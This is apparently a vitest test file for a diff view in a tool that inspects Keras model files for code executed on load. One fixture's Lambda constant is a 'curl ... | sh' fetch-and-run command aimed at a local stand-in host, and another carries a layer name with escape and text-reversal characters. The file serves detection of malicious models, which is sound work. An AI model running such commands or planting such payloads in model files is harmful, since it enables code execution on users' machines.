// The page's diff view (src/ui/CompareView.tsx) rendered to markup from real diffs: both sides' source for a
// changed payload, the changed constant, code-carrying items first, hostile names shown as visible markers.
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { DiffView } from '../../src/ui/CompareView';
import { dfx, diffFiles, fx } from './diff-sides';

const render = async (a: string, b: string) => renderToStaticMarkup(createElement(DiffView, { diff: await diffFiles(a, b) }));

describe('DiffView', () => {
  it('a changed constant: both sources, the change named, marked as code', async () => {
    const html = await render(dfx('echo_a.keras'), dfx('curl_sh.keras'));
    expect(html).toContain('data-kind="payload-changed" data-code="true"');
    expect(html).toContain('&lt;lambda&gt; const[2]: &#x27;echo a&#x27; → &#x27;curl http://127.0.0.1:9/p | sh&#x27;');
    expect(html.match(/aria-label="Source, [ab]"/g)).toEqual(['aria-label="Source, a"', 'aria-label="Source, b"']);
    expect(html).toContain('The code a load runs differs');
    // The changed line is marked on both sides, in the source and in the disassembly.
    const marked = [...html.matchAll(/<span class="line changed" data-changed="true">▶ ([^<]*)/g)].map((m) => m[1]);
    expect(marked).toHaveLength(4);
    expect(marked.filter((l) => /LOAD_CONST/.test(l)).map((l) => l.replace(/^.*LOAD_CONST\s+/, '').trim())).toEqual([
      '2 (&#x27;echo a&#x27;)',
      '2 (&#x27;curl http://127.0.0.1:9/p | sh&#x27;)',
    ]);
  });
  it('code-carrying differences come before the rest', async () => {
    const html = await render(fx('func_lambda_benign.keras'), dfx('lambda_inserted.keras'));
    const kinds = [...html.matchAll(/data-kind="([a-z-]+)" data-code="(true|false)"/g)].map((m) => m[2]);
    expect(kinds.indexOf('false')).toBeGreaterThan(0);
    expect(kinds.slice(kinds.indexOf('false'))).not.toContain('true');
  });
  it('an .h5 against its .keras says no code difference; a hostile name is shown with visible markers', async () => {
    expect(await render(fx('two_lambdas.h5'), fx('two_lambdas.keras'))).toContain('No difference in the code a load runs.');
    const html = await render(fx('func_lambda_benign.keras'), dfx('hostile_name.keras'));
    expect(html).toContain('dense⟨U+001B⟩[2J⟨U+202E⟩hidden');
    expect(html).not.toMatch(/[\u001b\u202e]/);
  });
});
